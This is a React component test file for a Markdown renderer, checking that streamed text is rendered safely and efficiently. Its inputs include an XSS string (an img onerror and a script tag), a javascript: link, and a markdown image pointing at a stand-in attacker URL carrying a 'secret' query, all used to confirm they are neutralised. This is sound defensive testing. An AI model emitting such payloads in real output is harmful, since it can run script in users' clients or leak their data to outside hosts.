import { cleanup, fireEvent, render, screen, waitFor } from '@testing-library/react'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { testMain, type TestMain } from '../../testing/testMain.ts'
import { Markdown } from './Markdown.tsx'

let main: TestMain
beforeEach(() => {
  main = testMain()
})
afterEach(cleanup)

describe('Markdown', () => {
  it('shows raw HTML as text', () => {
    const { container } = render(
      <Markdown text={'Hello <img src=x onerror=alert(1)> <script>alert(1)</script>'} streaming={false} />,
    )
    expect(container.querySelector('img, script')).toBeNull()
    expect(container.textContent).toContain('<script>')
  })

  it('does not load images', () => {
    const { container } = render(<Markdown text="![secret](https://evil.example/?q=secret)" streaming={false} />)
    expect(container.querySelector('img')).toBeNull()
    expect(container.textContent).toContain('evil.example, not loaded')
  })

  it('opens only web links, through main', () => {
    render(<Markdown text="[docs](https://example.org/a) [bad](javascript:alert(1))" streaming={false} />)
    fireEvent.click(screen.getByText('docs'))
    expect(main.requests).toEqual([{ method: 'app.openExternal', params: { url: 'https://example.org/a' } }])
    expect(screen.getByText('bad').closest('a, button')).toBeNull()
  })

  it('renders a path as a button that opens the file', () => {
    render(<Markdown text="[here](src/a.ts:3)" streaming={false} />)
    expect(screen.getByRole('button', { name: 'here' }).getAttribute('title')).toBe('Open src/a.ts')
  })

  it('shows streaming code, and the same code when complete', () => {
    const { container, rerender } = render(<Markdown text={'Look:\n\n```ts\nconst a = 1'} streaming />)
    expect(container.querySelector('pre')?.textContent).toBe('const a = 1')
    rerender(<Markdown text={'Look:\n\n```ts\nconst a = 1\n```\n'} streaming={false} />)
    expect(container.querySelector('pre')?.textContent).toBe('const a = 1')
    expect(screen.getByRole('button', { name: 'Insert at cursor' })).toBeTruthy()
  })

  it('shows highlighted code without the line break at its end', async () => {
    const { container } = render(<Markdown text={'```ts\nconst a = 1\n```\n'} streaming={false} />)
    await waitFor(() => expect(container.querySelector('.hljs-keyword')).not.toBe(null))
    expect(container.querySelector('pre')?.textContent).toBe('const a = 1')
  })

  it('does not render finished blocks again when more text arrives', () => {
    const { container, rerender } = render(<Markdown text={'First.\n\nSecond'} streaming />)
    const first = container.querySelector('p')
    rerender(<Markdown text={'First.\n\nSecond goes on.\n\nThird'} streaming />)
    expect(container.querySelector('p')).toBe(first)
    expect(container.querySelectorAll('p')).toHaveLength(3)
  })
})
